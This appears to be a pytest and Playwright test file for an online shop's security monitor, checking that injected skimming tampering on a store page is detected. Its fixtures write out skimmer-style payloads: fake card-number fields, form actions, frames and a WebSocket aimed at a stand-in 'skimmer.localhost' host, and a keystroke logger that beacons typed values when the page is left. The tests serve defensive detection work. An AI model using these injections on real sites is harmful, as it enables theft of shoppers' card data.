"""Pages that were tampered with: what the walk of `shop scope verify` judges turns red, each time by its own rule."""

from __future__ import annotations

import urllib.parse
import urllib.request
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Route, expect

from security.canary.numbers import fresh_number
from security.canary.page import Allowed
from security.canary.typing import left, type_everywhere
from security.canary.watched import Watched
from security.scripts import inventory
from shop.scope.system import System, running_system

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def system(sqlite_in_folder: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[System]:
    """One running system for the file."""
    with running_system(tmp_path_factory.mktemp("walk"), sqlite_in_folder) as running:
        yield running


def shelf(system: System, store: str) -> Allowed:
    """What an ordinary page of a store may have: nothing but its own."""
    return Allowed(system.origins[store])


FIELD = '<input autocomplete="cc-number">'
TAMPERED = {
    "card-field": f"document.body.insertAdjacentHTML('beforeend', '{FIELD}')",
    "card-field by its label": "document.body.insertAdjacentHTML('beforeend',"
    " '<label>カード番号<input id=f3></label>')",
    "card-field by its pattern": "document.body.insertAdjacentHTML('beforeend',"
    " '<input name=f3 inputmode=numeric maxlength=19>')",
    "card-field in an open shadow root": "document.body.appendChild(document.createElement('div'))"
    f".attachShadow({{mode: 'open'}}).innerHTML = '{FIELD}'",
    "card-field in a closed shadow root": "document.body.appendChild(document.createElement('div'))"
    f".attachShadow({{mode: 'closed'}}).innerHTML = '{FIELD}'",
    "card-field in a frame": "new Promise(done => { const frame = document.createElement('iframe');"
    f" frame.srcdoc = '{FIELD}'; frame.onload = done; document.body.append(frame) }})",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"http://skimmer.localhost:9\"></iframe>')",
    "form-target": "document.forms[0].action = 'http://skimmer.localhost:9/take'",
    "inline-script": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 2'}))",
    "request": "fetch('http://skimmer.localhost:9/take').catch(() => 0)",
    "integrity": "document.querySelector('script[integrity]').removeAttribute('integrity')",
}


@pytest.fixture
def unprotected(browser: Browser) -> Iterator[BrowserContext]:
    """A profile that does not heed the policy: as if it had been taken off, for only then can these happen."""
    context = browser.new_context(bypass_csp=True)
    yield context
    context.close()


@pytest.mark.parametrize("what", TAMPERED)
def test_a_page_that_was_tampered_with_turns_red_for_the_right_reason(
    what: str, unprotected: BrowserContext, system: System
) -> None:
    watched = Watched(unprotected.new_page())
    assert watched.open(system.origins["style"] + "/") == 200
    before = watched.judge(shelf(system, "style"), inventory.load())

    watched.page.evaluate(TAMPERED[what])

    assert before == []
    rules = {finding.rule for finding in watched.judge(shelf(system, "style"), inventory.load())}
    assert what.split()[0] in rules


def test_a_script_that_the_server_was_made_to_send_turns_red(
    unprotected: BrowserContext, system: System
) -> None:
    watched = Watched(unprotected.new_page())

    host = {"Host": urllib.parse.urlsplit(system.origins["style"]).netloc}
    with urllib.request.urlopen(
        urllib.request.Request(system.url + "/", headers=host), timeout=240
    ) as answer:
        page = answer.read().decode()
    added = "<script src='data:text/javascript,window.ran=1'></script><script>eval('window.ran=2')</script></body>"

    def altered(route: Route) -> None:
        route.fulfill(body=page.replace("</body>", added), content_type="text/html; charset=utf-8")

    watched.page.route(system.origins["style"] + "/", altered)
    watched.open(system.origins["style"] + "/")
    expect(watched.page.locator("body")).to_be_visible()
    findings = watched.judge(shelf(system, "style"), inventory.load())
    # The one with an address of its own, the one in the page, and the one that this made from a text.
    assert len([each for each in findings if each.rule == "script"]) == 3


def test_a_number_that_another_page_sends_later_is_seen_and_told_once(
    unprotected: BrowserContext, system: System
) -> None:
    watched, number = Watched(unprotected.new_page()), fresh_number()
    watched.open(system.origins["style"] + "/search")
    watched.page.evaluate("number => { window.name = number }", number)
    at_once = list(left(watched, number, "/search"))

    watched.open(system.origins["style"] + "/cart")
    watched.page.evaluate("() => fetch('/csp-report', { method: 'POST', body: window.name })")

    assert at_once == []
    assert [finding.rule for finding in left(watched, number, "/cart")] == ["number-left"]
    assert list(left(watched, number, "/cart")) == []


SENDS = {
    "a beacon": "navigator.sendBeacon('/csp-report', window.name)",
    "a beacon of bytes": "navigator.sendBeacon('/csp-report', new TextEncoder().encode(window.name))",
    "a beacon of a form": "(() => { const form = new FormData(); form.set('n', window.name);"
    " navigator.sendBeacon('/csp-report', form); })()",
    "a beacon of a blob": "navigator.sendBeacon('/csp-report', new Blob([window.name]))",
    "a socket": "(() => { const made = new WebSocket('ws://skimmer.localhost:9/take/' + window.name); })()",
}


@pytest.mark.parametrize("how", SENDS)
def test_what_the_browser_itself_does_not_tell_of_is_seen(
    how: str, unprotected: BrowserContext, system: System
) -> None:
    watched, number = Watched(unprotected.new_page()), fresh_number()
    watched.open(system.origins["style"] + "/search")
    watched.page.evaluate("number => { window.name = number }", number)
    watched.page.evaluate(f"() => {{ {SENDS[how]}; }}")
    watched.page.evaluate("() => new Promise(done => setTimeout(done))")
    rules = {finding.rule for finding in watched.judge(shelf(system, "style"), inventory.load())}

    watched.open(system.origins["style"] + "/cart")

    assert {finding.rule for finding in left(watched, number, "/cart")} == {"number-left"}
    assert ("request" in rules) == (how == "a socket"), "it alone went to another host"


@pytest.mark.parametrize("event", ["pagehide", "visibilitychange", "beforeunload", "unload", "blur"])
def test_what_a_page_sends_when_it_is_left_is_seen_while_it_is_there(
    event: str, unprotected: BrowserContext, system: System
) -> None:
    watched, number = Watched(unprotected.new_page()), fresh_number()
    watched.open(system.origins["style"] + "/search")
    watched.page.evaluate(
        "event => { addEventListener('keydown', each => { window.seen = each.target.value }, true);"
        " const go = () => { if (event !== 'visibilitychange' || document.hidden)"
        " navigator.sendBeacon('/csp-report', window.seen) }; addEventListener(event, go) }",
        event,
    )

    type_everywhere(watched, number)

    assert {finding.rule for finding in left(watched, number, "/search")} == {"number-left"}
    assert watched.page.evaluate("() => document.visibilityState") == "visible"
